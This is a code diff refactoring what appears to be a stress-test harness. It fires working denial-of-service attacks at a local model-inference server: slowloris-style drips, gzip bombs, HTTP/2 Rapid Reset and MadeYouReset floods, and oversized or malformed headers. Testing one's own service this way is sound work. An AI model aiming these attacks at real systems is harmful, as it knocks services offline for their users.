@@ -18,6 +18,7 @@ import sys
 import time
 from collections.abc import Awaitable, Callable
 from dataclasses import dataclass
+from functools import partial
 
 HOST = "127.0.0.1"
 #: connections that are held open at once, requests a second of all connections, and bytes of a large header
@@ -28,6 +29,7 @@ IDLE = 3000
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(3) + b"\x04" + bytes(5)
 HEADERS, RST_STREAM, WINDOW_UPDATE = 1, 3, 8
 END_HEADERS = 4
+LISTS = b'{"inputs":[{"name":"x","shape":[1,4],"datatype":"FP32","data":[' + b"[]," * 21_000 + b"[]]}]}"
 #: POST, http, and a path that does not exist; each of them a field of its own
 BLOCK = b"\x83\x86\x44\x05/none"
 
@@ -54,7 +56,6 @@ class Target:
         await asyncio.sleep(max(0.0, min(seconds, self.until - time.monotonic())))
 
     def head(self, length: int, *lines: str) -> bytes:
-        """The head of a query with a key."""
         fields = ["host: a", f"authorization: Bearer {self.key}", f"content-length: {length}", *lines]
         return "\r\n".join([f"POST {self.path} HTTP/1.1", *fields, "", ""]).encode()
 
@@ -63,7 +64,7 @@ def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
     return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + struct.pack(">I", stream) + payload
 
 
-async def _each(target: Target, count: int, one: Callable[[Target], Awaitable[None]]) -> None:
+async def _each(count: int, one: Callable[[Target], Awaitable[None]], target: Target) -> None:
     """Run ``count`` at once, each again when it has ended."""
 
     async def again() -> None:
@@ -88,16 +89,6 @@ async def _drip(target: Target, beginning: bytes) -> None:
         writer.close()
 
 
-async def slow_heads(target: Target) -> None:
-    """Heads that arrive byte by byte."""
-    await _each(target, HELD, lambda target: _drip(target, b"GET /health HTTP/1.1\r\nhost: a\r\nx: "))
-
-
-async def slow_bodies(target: Target) -> None:
-    """Bodies that arrive byte by byte."""
-    await _each(target, HELD, lambda target: _drip(target, target.head(60_000)))
-
-
 async def _send(target: Target, data: bytes, each_s: float) -> None:
     """One request after the other on one connection, as long as it lasts."""
     reader, writer = await asyncio.open_connection(HOST, target.http)
@@ -115,37 +106,13 @@ async def _send(target: Target, data: bytes, each_s: float) -> None:
         writer.close()
 
 
-async def big_json(target: Target) -> None:
-    """JSON as large as the signature permits, made of empty lists."""
-    body = b'{"inputs":[{"name":"x","shape":[1,4],"datatype":"FP32","data":[' + b"[]," * 21_000 + b"[]]}]}"
-    await _each(target, 4, lambda target: _send(target, target.head(len(body)) + body, 4 / BODIES_RATE))
-
-
 async def gzip_bombs(target: Target) -> None:
-    """Small bodies that would be large."""
     began = time.monotonic()
     body = gzip.compress(bytes(BOMB_BYTES), compresslevel=1)
     # A busy machine takes longer to make the bomb than an attack lasts.
     target.until += time.monotonic() - began
     head = target.head(len(body), "content-encoding: gzip")
-    await _each(target, 4, lambda target: _send(target, head + body, 4 / BODIES_RATE))
-
-
-async def malformed_heads(target: Target) -> None:
-    """Requests that are none."""
-    await _each(target, 8, lambda target: _send(target, b"no request\r\n\r\n", 8 / RATE))
-
-
-async def huge_headers(target: Target) -> None:
-    """Headers just below the limit, each time others, without a key."""
-    data = b"GET /v2 HTTP/1.1\r\nhost: a\r\nx: " + b"y" * HEADER_BYTES + b"\r\n\r\n"
-    await _each(target, 8, lambda target: _send(target, data, 8 / RATE))
-
-
-async def many_fields(target: Target) -> None:
-    """As many headers as fit, without a key."""
-    data = b"GET /v2 HTTP/1.1\r\nhost: a\r\n" + b"x: y\r\n" * 2000 + b"\r\n"
-    await _each(target, 8, lambda target: _send(target, data, 8 / RATE))
+    await _each(4, lambda target: _send(target, head + body, 4 / BODIES_RATE), target)
 
 
 async def _frames(target: Target, make: Callable[[int], bytes]) -> None:
@@ -168,28 +135,19 @@ async def _frames(target: Target, make: Callable[[int], bytes]) -> None:
         writer.close()
 
 
-async def resets(target: Target) -> None:
-    """Open calls that the client resets, and calls that the server resets.
-
-    The first kind is known as "Rapid Reset", the second as "MadeYouReset".
-    """
-
-    def make(number: int) -> bytes:
-        head = frame(HEADERS, END_HEADERS, number, BLOCK)
-        by_client = frame(RST_STREAM, 0, number, bytes(4))
-        return head + (by_client if number % 4 == 1 else frame(WINDOW_UPDATE, 0, number, bytes(4)))
-
-    await _each(target, 2, lambda target: _frames(target, make))
+def _reset(number: int) -> bytes:
+    """A call that the client resets ("Rapid Reset"), or one that the server resets ("MadeYouReset")."""
+    head = frame(HEADERS, END_HEADERS, number, BLOCK)
+    by_client = frame(RST_STREAM, 0, number, bytes(4))
+    return head + (by_client if number % 4 == 1 else frame(WINDOW_UPDATE, 0, number, bytes(4)))
 
 
-async def malformed_streams(target: Target) -> None:
-    """Header blocks of many fields that no request may have."""
-    block = b"\x83\x86" + b"\x00\x01A\x01b" * 150
-    await _each(target, 2, lambda target: _frames(target, lambda number: frame(HEADERS, END_HEADERS, number, block)))
+def _malformed(number: int) -> bytes:
+    """A header block of many fields that no request may have."""
+    return frame(HEADERS, END_HEADERS, number, b"\x83\x86" + b"\x00\x01A\x01b" * 150)
 
 
 async def idle_connections(target: Target) -> None:
-    """As many connections as may be opened, without a byte."""
     _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
     resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
     open_ = []
@@ -226,31 +184,36 @@ async def _unread(target: Target) -> None:
         end.close()
 
 
-async def unread_answers(target: Target) -> None:
-    """Many requests for a large page that nobody reads."""
-    await _each(target, 50, _unread)
+def _request(data: bytes) -> Callable[[Target], Awaitable[None]]:
+    return partial(_each, 8, lambda target: _send(target, data, 8 / RATE))
 
 
-ATTACKERS = {
-    one.__name__.replace("_", " "): one
-    for one in (
-        slow_heads,
-        slow_bodies,
-        big_json,
-        gzip_bombs,
-        resets,
-        malformed_heads,
-        malformed_streams,
-        idle_connections,
-        unread_answers,
-        huge_headers,
-        many_fields,
-    )
+def _frames_of(make: Callable[[int], bytes]) -> Callable[[Target], Awaitable[None]]:
+    return partial(_each, 2, lambda target: _frames(target, make))
+
+
+ATTACKERS: dict[str, Callable[[Target], Awaitable[None]]] = {
+    # Byte by byte.
+    "slow heads": partial(_each, HELD, lambda target: _drip(target, b"GET /health HTTP/1.1\r\nhost: a\r\nx: ")),
+    "slow bodies": partial(_each, HELD, lambda target: _drip(target, target.head(60_000))),
+    # As large as the signature permits, made of empty lists.
+    "big json": partial(_each, 4, lambda target: _send(target, target.head(len(LISTS)) + LISTS, 4 / BODIES_RATE)),
+    # Small bodies that would be large.
+    "gzip bombs": gzip_bombs,
+    "resets": _frames_of(_reset),
+    "malformed heads": _request(b"no request\r\n\r\n"),
+    "malformed streams": _frames_of(_malformed),
+    # As many connections as may be opened, without a byte.
+    "idle connections": idle_connections,
+    # Of a large page.
+    "unread answers": partial(_each, 50, _unread),
+    # Just below the limit, without a key.
+    "huge headers": _request(b"GET /v2 HTTP/1.1\r\nhost: a\r\nx: " + b"y" * HEADER_BYTES + b"\r\n\r\n"),
+    "many fields": _request(b"GET /v2 HTTP/1.1\r\nhost: a\r\n" + b"x: y\r\n" * 2000 + b"\r\n"),
 }
 
 
 def main() -> None:
-    """Attack."""
     name, http, grpc, key, path, seconds = sys.argv[1:]
     target = Target(int(http), int(grpc), key, path, time.monotonic() + float(seconds))
     asyncio.run(ATTACKERS[name](target))
